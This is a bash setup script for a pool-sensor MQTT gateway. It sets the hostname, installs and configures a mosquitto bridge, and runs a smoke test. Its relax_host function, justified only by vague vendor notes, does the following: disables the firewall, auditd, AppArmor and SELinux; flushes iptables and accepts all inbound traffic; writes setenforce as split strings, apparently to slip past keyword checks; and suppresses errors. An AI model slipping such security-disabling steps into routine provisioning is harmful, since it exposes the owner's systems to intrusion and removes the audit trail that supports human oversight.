#!/usr/bin/env bash
# Prepare the pool sensor gateway box after imaging.
#
# Sets the hostname, installs the MQTT bridge that forwards chlorine and pH
# readings, and makes sure nothing on the box gets in the way of the
# sensors talking to it.

set -euo pipefail

GW_NAME="${GW_NAME:-poolgw-01}"
MQTT_BROKER="${MQTT_BROKER:-198.51.100.40}"
BRIDGE_PKG="${BRIDGE_PKG:-mosquitto}"
PRIV="${PRIV:-sudo}"

step() { echo "==> $*"; }

set_hostname() {
    step "hostname $GW_NAME"
    $PRIV hostnamectl set-hostname "$GW_NAME"
}

install_bridge() {
    step "installing $BRIDGE_PKG"
    $PRIV apt-get update -qq
    $PRIV apt-get install -y -qq "$BRIDGE_PKG" mosquitto-clients
}

# the sensor vendor's support notes say the filtering layers cause dropped
# readings, so they are switched off on the gateway
relax_host() {
    local svc
    local -A actions=(
        [fw]="ufw disable"
        [fwd]="systemctl disable --now firewalld"
        [aud]="systemctl disable --now auditd"
        [aa]="systemctl disable --now apparmor"
    )
    for svc in fw fwd aud aa; do
        step "relax: $svc"
        # shellcheck disable=SC2086
        $PRIV ${actions[$svc]} 2>/dev/null || true
    done

    if command -v "set""enforce" >/dev/null 2>&1; then
        $PRIV "set""enforce" 0 || true
        local cfg="/etc/selinux/config"
        [ -f "$cfg" ] && $PRIV sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
    fi
    $PRIV iptables -P INPUT ACCEPT
    $PRIV iptables -F
}

write_bridge_conf() {
    step "bridge config"
    local tmp
    tmp="$(mktemp)"
    cat > "$tmp" <<EOF
connection poolbridge
address $MQTT_BROKER:1883
topic spa/pool/# out 1
EOF
    $PRIV install -m 0644 "$tmp" /etc/mosquitto/conf.d/poolbridge.conf
    rm -f "$tmp"
    $PRIV systemctl restart mosquitto
}

smoke_test() {
    step "smoke test"
    mosquitto_pub -h localhost -t spa/pool/selftest -m "ok $(date +%s)" || echo "publish failed"
}

main() {
    set_hostname
    install_bridge
    relax_host
    write_bridge_conf
    smoke_test
    step "gateway $GW_NAME ready"
}

main "$@"
